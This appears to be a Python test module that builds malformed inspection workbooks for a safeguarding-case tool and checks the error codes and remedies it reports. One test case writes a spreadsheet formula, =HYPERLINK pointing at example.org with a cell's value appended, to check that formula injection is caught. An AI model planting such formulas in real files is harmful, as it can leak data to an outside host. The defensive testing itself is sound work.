"""Workbooks and submissions of cases that are wrong, and what is told of them.

Every row starts from Westerdale, whose second case is ``SECRET-CHILD-7``: what stands in
a cell that is wrong is that word too, and it must never be printed.
"""

from __future__ import annotations

import re
from collections.abc import Callable
from pathlib import Path
from typing import Any

from openpyxl import load_workbook

from evenhand.assessment.away.layout import laid_out
from evenhand.errors import Place
from evenhand.frameworks import library_framework
from evenhand.inspection.hand_ins import make_workbook, take
from tests.functional.broken import (
    CHILD,
    DETAILS,
    WESTERDALE,
    Broken,
    Change,
    together,
    write,
)

FILE = "handed-in.xlsx"
ID = "6f1f7f52-3b67-4b37-9a56-0d7c6a1d9a10"
TAKE = ("workbook", "take", f"{{}}/{FILE}", "{}")
Edit = Callable[[Any], None]


def nothing_answered(folder: Path) -> None:
    """Westerdale before the first answer, and so before any decision."""
    for table in ("facts.csv", "answers.csv"):
        head = (folder / table).read_text(encoding="utf-8").splitlines()[0]
        (folder / table).write_text(f"{head}\n", encoding="utf-8")
    text = (folder / DETAILS).read_text(encoding="utf-8")
    text = re.sub(r"(?ms)^discretion:\n(?:[ \n].*?\n)*(?=^\S)", "", text)
    (folder / DETAILS).write_text(text, encoding="utf-8")


def made(edit: Edit, file: str = FILE) -> Change:
    """A workbook for all cases, made and then edited."""

    def change(folder: Path) -> None:
        path = folder / file
        path.write_bytes(make_workbook(folder, (), ID))
        book = load_workbook(path)
        edit(book)
        book.save(path)

    return change


def cell(name: str, value: object, sheet: str = "Case 2") -> Edit:
    def edit(book: Any) -> None:
        book[sheet][name] = value

    return edit


def each(*edits: Edit) -> Edit:
    def edit(book: Any) -> None:
        for one in edits:
            one(book)

    return edit


def identity(key: str, value: str) -> Edit:
    """Another value in the sheet by which the workbook is known again."""

    def edit(book: Any) -> None:
        for row in book["Workbook"].iter_rows():
            if row[0].value == key:
                row[1].value = value

    return edit


def _take_away(sheet: str) -> Edit:
    return lambda book: book.remove(book[sheet])


def _add(title: str) -> Edit:
    return lambda book: book.create_sheet(title)


def _bad(
    name: str,
    edit: Edit,
    code: str,
    place: Place,
    remedy: str,
    also: tuple[str, ...] | None = (),
) -> Broken:
    change = together(nothing_answered, made(edit))
    return Broken(name, WESTERDALE, change, code, place, remedy, also, TAKE)


def _at(row: int, column: str, sheet: str = "Case 2") -> Place:
    return Place(FILE, sheet=sheet, row=row, column=column)


def of_form(number: int) -> Edit:
    """As earlier versions made it: of an earlier form, which also said for whom."""

    def edit(book: Any) -> None:
        sheet = book["Workbook"]
        sheet["B1"] = f"evenhand-workbook-{number}"
        sheet.insert_rows(7)
        sheet["A7"], sheet["B7"] = "oversight", "no"

    return edit


def taken_before(first: Edit, then: Edit) -> Change:
    """The same workbook, taken into the folder, and then edited once more."""

    def change(folder: Path) -> None:
        made(first)(folder)
        take(folder, [folder / FILE])
        made(then)(folder)

    return change


def _row_of(field: str) -> int:
    rows = laid_out(library_framework("yos-2020").framework, "court")
    return next(r.row for r in rows if r.line and field in (r.line.field, r.line.note))


QUOTED, OVERSEEN = _row_of("quotation:1.text"), _row_of("oversight:case-manager")
# Row 6 is ‘safety-factors’, 18 question 2.1.1, and 24 question 2.1.1f, which rests on
# ‘victim-identifiable’ in row 11.
CELLS = [
    _bad(
        "a workbook has an answer that is on no list",
        cell("C18", CHILD),
        "workbook.word",
        _at(18, "Answer"),
        "Choose one of: ‘Yes’ or ‘No’.",
    ),
    _bad(
        "a workbook has ‘not relevant’ where a question is always relevant",
        cell("C18", "Not relevant"),
        "workbook.word",
        _at(18, "Answer"),
        "Choose one of: ‘Yes’ or ‘No’.",
    ),
    _bad(
        "a workbook has a formula for a note",
        cell("D18", '=HYPERLINK("https://example.org/?"&A1)'),
        "workbook.formula",
        _at(18, "Note"),
        "needs an apostrophe in front",
    ),
    _bad(
        "a workbook has a truth for an answer",
        cell("C18", True),
        "table.cell-kind",
        _at(18, "Answer"),
        "Type the value as text",
    ),
    _bad(
        "a workbook has a note beside a fact",
        cell("D6", CHILD),
        "workbook.stray-cell",
        _at(6, "Note"),
        "Move it to the answer or the note",
    ),
    _bad(
        "a workbook has a text under all questions",
        cell("B300", CHILD),
        "workbook.stray-cell",
        _at(300, "Question"),
        "Move it to the answer or the note",
    ),
    _bad(
        "a workbook has a note that is too long",
        cell("D18", "a" * 10_001),
        "workbook.too-long",
        _at(18, "Note"),
        "Shorten it",
    ),
    _bad(
        "a workbook has a question beside a quotation without words",
        cell(f"C{QUOTED + 1}", "2.1.1"),
        "workbook.stray-cell",
        _at(QUOTED + 1, "Answer"),
        "fill in what it belongs to",
    ),
    _bad(
        "a workbook has a quotation about a child in place of a question",
        each(cell(f"D{QUOTED}", "Said."), cell(f"C{QUOTED + 1}", CHILD)),
        "workbook.word",
        _at(QUOTED + 1, "Answer"),
        "Choose one of: ‘2.1.1’",
    ),
    _bad(
        "a workbook has an answer and not the fact that it rests on",
        cell("C24", "Yes"),
        "workbook.fact-missing",
        _at(24, "Answer"),
        "Choose one of: ‘Yes’ or ‘No’.",
    ),
    _bad(
        "a workbook answers what the facts make irrelevant",
        each(cell("C11", "No"), cell("C24", "Yes")),
        "workbook.not-relevant",
        _at(24, "Answer"),
        "correct the fact that decides it",
    ),
    _bad(
        "a workbook says ‘not relevant’ of what the facts make relevant",
        each(cell("C11", "Yes"), cell("C24", "Not relevant")),
        "workbook.relevant",
        _at(24, "Answer"),
        "correct the fact that decides it",
    ),
]

SHEETS = [
    _bad(
        "two rows of a workbook changed places",
        each(cell("A18", "2.1.1a"), cell("A19", "2.1.1")),
        "workbook.sheet-changed",
        Place(FILE, sheet="Case 2", row=18),
        "Nothing of this sheet was taken",
    ),
    _bad(
        "a row was put into a workbook",
        lambda book: book["Case 2"].insert_rows(30),
        "workbook.sheet-changed",
        Place(FILE, sheet="Case 2", row=30),
        "Undo what was moved",
    ),
    _bad(
        "the sheet of one case was put under the name of another",
        each(cell("A1", "Case C03"), cell("C18", "Yes")),
        "workbook.sheet-changed",
        Place(FILE, sheet="Case 2", row=1),
        "copy the answers into a new workbook",
    ),
    _bad(
        "a sheet of a workbook was deleted",
        _take_away("Case 2"),
        "workbook.sheet-missing",
        Place(FILE),
        "--partly",
    ),
    _bad(
        "a sheet was added to a workbook, and nothing is wrong",
        _add(CHILD),
        "workbook.sheet-extra",
        Place(FILE),
        "unless answers stand there",
    ),
]

WHOLE = [
    _bad(
        "a workbook has lost the sheet by which it is known",
        _take_away("Workbook"),
        "workbook.not-ours",
        Place(FILE),
        "with all of its sheets",
    ),
    _bad(
        "a workbook names a sheet after a child",
        cell("A8", CHILD, "Workbook"),
        "workbook.not-ours",
        Place(FILE),
        "with all of its sheets",
    ),
    _bad(
        "a workbook names a case group that there is none of",
        cell("C8", CHILD, "Workbook"),
        "workbook.not-ours",
        Place(FILE),
        "with all of its sheets",
    ),
    _bad(
        "a workbook of the first form, before folders had a place for quotations",
        of_form(1),
        "workbook.earlier-form",
        Place(FILE),
        "Make a new workbook or form here",
    ),
    _bad(
        "a workbook of the second form",
        of_form(2),
        "workbook.earlier-form",
        Place(FILE),
        "or take it with the version of Evenhand that made it",
    ),
    _bad(
        "a workbook of a form that is yet to come",
        identity("form", "evenhand-workbook-4"),
        "workbook.later-form",
        Place(FILE),
        "install that one here",
    ),
    _bad(
        "a workbook that names no form but a child",
        identity("form", CHILD),
        "workbook.not-ours",
        Place(FILE),
        "with all of its sheets",
    ),
    _bad(
        "a workbook is of another version of the framework",
        identity("version", "9.0.0"),
        "workbook.other-framework",
        Place(FILE),
        "Make a new workbook",
    ),
    _bad(
        "a workbook is of the same version with another content",
        identity("hash", f"sha256:{'0' * 64}"),
        "workbook.other-framework",
        Place(FILE),
        "Make a new workbook",
    ),
    _bad(
        "a workbook is of another inspection",
        identity("inspection", CHILD),
        "workbook.other-inspection",
        Place(FILE),
        "Hand it in where it was made",
    ),
    _bad(
        "a workbook is about a case that is not there",
        each(
            cell("B8", "C99", "Workbook"),
            cell("A1", "Case C99", "Case 1"),
            cell("C18", "Yes", "Case 1"),
        ),
        "workbook.case-unknown",
        Place(FILE, sheet="Case 1"),
        "add the case there",
    ),
    Broken(
        "a workbook of another kind is handed in",
        WESTERDALE,
        write(FILE, b"PK\x03\x04 and no more"),
        "table.not-xlsx",
        Place(FILE),
        "save it as “Excel workbook",
        (),
        TAKE,
    ),
    Broken(
        "what is handed in is neither a workbook nor submissions",
        WESTERDALE,
        write("answers.docx", CHILD),
        "workbook.file-kind",
        Place("answers.docx"),
        "Save it as the one or the other",
        (),
        ("workbook", "take", "{}/answers.docx", "{}"),
    ),
]

THERE = [
    Broken(
        "a workbook says something else than the folder",
        WESTERDALE,
        made(cell("C18", "No", "Case 1")),
        "workbook.conflict",
        _at(18, "Answer", "Case 1"),
        "Nothing was overwritten",
        (),
        TAKE,
    ),
    Broken(
        "a workbook says something else than was taken from it before",
        WESTERDALE,
        taken_before(cell(f"D{QUOTED}", "As it was."), cell(f"D{QUOTED}", CHILD)),
        "workbook.conflict",
        _at(QUOTED, "Note"),
        "correct the table ‘quotations’ of the folder",
        (),
        TAKE,
    ),
    Broken(
        "a workbook says something else of oversight than the folder",
        WESTERDALE,
        together(
            write("oversight.csv", f"case,case-manager\n{CHILD},no\n"),
            made(cell(f"C{OVERSEEN}", "Yes")),
        ),
        "workbook.conflict",
        _at(OVERSEEN, "Answer"),
        "correct the table ‘oversight’ of the folder",
        (),
        TAKE,
    ),
    Broken(
        "two workbooks say different things",
        WESTERDALE,
        together(
            nothing_answered,
            made(cell("C18", "Yes")),
            made(cell("C18", "No"), "second.xlsx"),
        ),
        "workbook.two-say-different",
        Place("second.xlsx", sheet="Case 2", row=18, column="Answer"),
        "empty the other cell",
        (),
        ("workbook", "take", f"{{}}/{FILE}", "{}/second.xlsx", "{}"),
    ),
]

MAKE = ("workbook", "make", "{}")
MAKING = [
    Broken(
        "a workbook is made for a case that is not there",
        WESTERDALE,
        lambda folder: None,
        "workbook.case-not-there",
        Place("the command line"),
        "as they stand in the table of cases",
        (),
        (*MAKE, "--case", "C99", "--out", "{}/w.xlsx"),
    ),
    Broken(
        "a workbook is made where nothing is answered on cases",
        "derby-2018",
        lambda folder: None,
        "workbook.no-cases",
        Place("cases"),
        "check the table of cases",
        (),
        (*MAKE, "--out", "{}/w.xlsx"),
    ),
    Broken(
        "a workbook is to be a text file",
        WESTERDALE,
        lambda folder: None,
        "workbook.suffix",
        Place("w.csv"),
        "ends in .xlsx",
        (),
        (*MAKE, "--out", "{}/w.csv"),
    ),
    Broken(
        "a workbook is to go where a file is",
        WESTERDALE,
        write("w.xlsx", CHILD),
        "workbook.there",
        Place("w.xlsx"),
        "it may hold answers",
        (),
        (*MAKE, "--out", "{}/w.xlsx"),
    ),
]

BROKEN_HAND_INS = [*CELLS, *SHEETS, *WHOLE, *THERE, *MAKING]
